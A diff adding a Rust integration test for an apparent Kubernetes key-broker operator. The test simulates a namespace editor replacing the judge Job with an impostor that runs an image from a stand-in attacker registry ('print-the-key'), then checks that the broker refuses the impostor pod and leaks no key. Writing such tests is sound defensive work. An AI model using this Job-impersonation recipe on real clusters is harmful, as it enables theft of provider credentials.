@@ -412,6 +412,61 @@ async fn a_pod_with_a_copied_owner_reference_gets_nothing() {
     env.assert_no_plaintext().await;
 }
 
+/// Path 4: a namespace editor deletes the judge Job and creates their own under the same name,
+/// owned by the EvalJob, with their image in the template: the Job controller makes its pods (so
+/// admission lets them carry the judge label), but it is not the Job the operator created.
+#[tokio::test]
+async fn a_judge_job_recreated_by_the_editor_gets_nothing() {
+    use k8s_openapi::api::batch::v1::Job;
+    let mut env = TestEnv::new("atk-rejob").await;
+    default_key(&mut env, "openai", Provider::OpenAi).await;
+    create_evaljob(&env, "eval", judge_spec("openai", cases(2))).await;
+    let original = running_pod(&env, "eval").await;
+    let jobs: Api<Job> = Api::namespaced(env.client.clone(), &env.ns);
+    let job_name = original.labels().get("batch.kubernetes.io/job-name").cloned().expect("job name");
+    let real = jobs.get(&job_name).await.expect("judge Job");
+    jobs.delete(&job_name, &kube::api::DeleteParams::background()).await.expect("the editor may delete Jobs");
+    eventually("the judge Job gone", TIMEOUT, || async { jobs.get_opt(&job_name).await.ok()?.is_none().then_some(()) })
+        .await;
+    let mut template = real.spec.clone().expect("spec").template;
+    let labels = template.metadata.as_mut().and_then(|m| m.labels.as_mut()).expect("labels");
+    labels.retain(|k, _| !k.contains("controller-uid") && !k.contains("job-name"));
+    let pod_spec = template.spec.as_mut().expect("pod spec");
+    for c in pod_spec.init_containers.iter_mut().flatten().chain(pod_spec.containers.iter_mut()) {
+        c.image = Some("registry.attacker.example/print-the-key:1".into());
+    }
+    let impostor = Job {
+        metadata: ObjectMeta {
+            name: Some(job_name.clone()),
+            labels: real.metadata.labels.clone(),
+            owner_references: real.metadata.owner_references.clone(),
+            ..Default::default()
+        },
+        spec: Some(k8s_openapi::api::batch::v1::JobSpec {
+            template,
+            completion_mode: Some("Indexed".into()),
+            completions: Some(1),
+            ..Default::default()
+        }),
+        status: None,
+    };
+    jobs.create(&PostParams::default(), &impostor).await.expect("the editor may create Jobs");
+    let pods: Api<Pod> = Api::namespaced(env.client.clone(), &env.ns);
+    let theirs = eventually("a pod of the impostor Job", TIMEOUT, || async {
+        let list = pods
+            .list(&kube::api::ListParams::default().labels(&format!("batch.kubernetes.io/job-name={job_name}")))
+            .await
+            .ok()?;
+        list.items.into_iter().find(|p| p.uid() != original.uid() && p.metadata.deletion_timestamp.is_none())
+    })
+    .await;
+    let theirs = report_pod_address(&env, &theirs, "127.0.0.1").await;
+    let ns = env.ns.clone();
+    let token = pod_token(&env, &ns, &theirs, wire::KEY_AUDIENCE).await;
+    assert_eq!(ask_broker(&env, &token, &theirs.uid().expect("uid")).await, (403, "NotOwnedByEvalJob".into()));
+    env.assert_no_plaintext().await;
+}
+
 /// A key is handed out once per pod: a second request (a token used twice, or a replay from a
 /// compromised judge) is refused, logged as a security event and raised on the EvalJob.
 #[tokio::test]
